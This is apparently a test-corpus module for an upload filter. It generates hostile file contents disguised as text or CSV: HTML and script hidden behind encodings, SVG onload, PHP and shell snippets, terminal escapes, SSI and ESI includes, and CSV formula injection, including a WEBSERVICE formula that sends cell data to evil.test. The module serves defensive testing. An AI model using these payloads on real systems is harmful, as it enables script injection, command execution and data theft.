"""Text and tables that a browser, a terminal or another program takes for something else."""

from __future__ import annotations

from collections.abc import Iterator

from tests.uploads.corpus.files import HTML, HTML_TYPE, JS, PAYLOAD, PHP, SCRIPT, Areas, Hostile

FAMILY = "texts"
TEXT = SCRIPT.decode()
TAGS = (
    *("<!DOCTYPE html>", "<html>", "<head>", "<script>", "<iframe>", "<h1>", "<div>", "<font>"),
    *("<table>", "<a href=x>", "<style>", "<title>", "<b>", "<body>", "<br>", "<p>", "<!-- -->"),
    "<?xml version='1.0'?>",
)
CLOSED = {tag: tag.replace("<", "</") for tag in TAGS[2:5] + TAGS[10:12]}


def rows() -> Iterator[tuple[str, str, bytes, Areas, str | None]]:
    """Yield title, extension, content, what refuses it, and how it would run."""
    for tag in TAGS:
        content = (tag + CLOSED.get(tag, "") + TEXT).encode()
        runs_as = None if tag.startswith("<?") else HTML_TYPE
        yield f"begins with {tag}", "txt", content, ("content",), runs_as
    table = b"<table><tr><td>" + SCRIPT + b",1\n2,3\n"
    yield "table", "csv", table, ("content",), HTML_TYPE
    for title, lead in {
        "white space": b"\t\n\x0c\r  ",
        "a mark": b"\xef\xbb\xbf",
        "a mark and white space": b"\xef\xbb\xbf \n",
        "much white space": b" " * 1_000,
    }.items():
        yield f"page after {title}", "txt", lead + HTML, ("content",), HTML_TYPE
    yield (
        "page in capitals",
        "txt",
        HTML.upper().replace(SCRIPT.upper(), SCRIPT),
        ("content",),
        HTML_TYPE,
    )
    yield (
        "page that ends its tag with a slash",
        "csv",
        b"<b/onclick=x>" + SCRIPT,
        ("content",),
        HTML_TYPE,
    )
    for encoding in ("utf-16-le", "utf-16-be", "utf-32-le"):
        mark = "\ufeff".encode(encoding)
        runs_as = HTML_TYPE if encoding != "utf-32-le" else None
        yield (
            f"page in {encoding}",
            "txt",
            mark + HTML.decode().encode(encoding),
            ("content", "text"),
            runs_as,
        )
        yield (
            f"page in {encoding}, no mark",
            "csv",
            HTML.decode().encode(encoding),
            ("content", "text"),
            None,
        )
    yield "page in ISO-2022-JP", "txt", b"a\x1b(J" + HTML, ("text", "content"), HTML_TYPE
    yield (
        "orders to a terminal",
        "txt",
        b"ok\n" * 99 + b"\x1b]0;evil\x07\x1b[2J",
        ("text", "content"),
        None,
    )
    yield "carriage of control", "txt", b"a\x08\x08b\x7f", ("text", "content"), None
    yield "nul", "txt", b"text\0text", ("text", "content"), None
    yield "nul far behind", "txt", b"text " * 2_000 + b"\0", ("text",), None
    yield "neither encoding", "txt", b"text \xff\x81\x8d\x8f", ("text",), None
    yield "program", "txt", PHP, ("text", "content"), None
    yield "program in short", "csv", b"<?=1?>", ("text", "content"), None
    yield "shell", "txt", b"#!/bin/sh\nid\n", ("text", "content"), None
    yield "rich text", "txt", b"{\\rtf1{\\object\\objautlink}}", ("content", "text"), None
    yield "postscript", "txt", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n", ("content", "text"), None
    yield "paper", "txt", b"%PDF-1.7\n%%EOF", ("content", "text"), None
    yield "paper late", "txt", b"a" * 500 + b"%PDF-1.7\n%%EOF", ("text",), None
    yield (
        "drawing",
        "txt",
        b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
        ("content", "text"),
        None,
    )
    yield (
        "drawing after a remark",
        "csv",
        b"<!-- a --><svg xmlns='http://www.w3.org/2000/svg'/>",
        ("content", "text"),
        None,
    )
    yield "gif by its start", "txt", b"GIF89a/*" + HTML, ("content", "text"), None


# Words that run only where a server or a page asks for it; as text they are text. How they are
# sent is what makes them harmless, which Chromium shows.
WORDS = {
    "script as txt": ("txt", JS),
    "script as csv": (
        "csv",
        b"a,b\n".replace(b",", b"=0,").replace(b"b\n", b"b=0;\n").replace(b"a=", b"var a=") + JS,
    ),
    "page behind words": ("txt", b"a" * 2_000 + HTML),
    "page behind a word": ("txt", b"words " + HTML),
    "tag nobody sniffs": ("txt", f'<img src=x onerror="{PAYLOAD}">'.encode()),
    "drawing behind a word": ("txt", b"a <svg onload=x>"),
    "page in utf-7": ("txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "mhtml": ("txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML),
    "program behind a word": ("txt", b"lesson: " + PHP),
    "includes": ("txt", b'words <!--#exec cmd="id" --><esi:include src="https://evil.test/"/>'),
    "formula": ("csv", b"=cmd|'/C calc'!A0,1\n"),
    "formula that fetches": ("csv", b'=WEBSERVICE("https://evil.test/?a="&A1)\n'),
    "template": ("txt", b"{{ 7*7 }} ${7*7} <%= 7*7 %>"),
}


def files() -> Iterator[Hostile]:
    """Yield the family."""
    for title, extension, content, areas, runs_as in rows():
        yield Hostile(
            FAMILY, f"{extension}, {title}", f"a.{extension}", content, areas, runs_as=runs_as
        )


def words() -> Iterator[Hostile]:
    """Yield text that is stored as it is, for the browser's tests."""
    for title, (extension, content) in WORDS.items():
        runs_as = "text/javascript" if title.startswith("script") else None
        if title in ("page behind a word", "page behind words", "tag nobody sniffs"):
            runs_as = HTML_TYPE
        yield Hostile("words", title, f"a.{extension}", content, runs_as=runs_as)
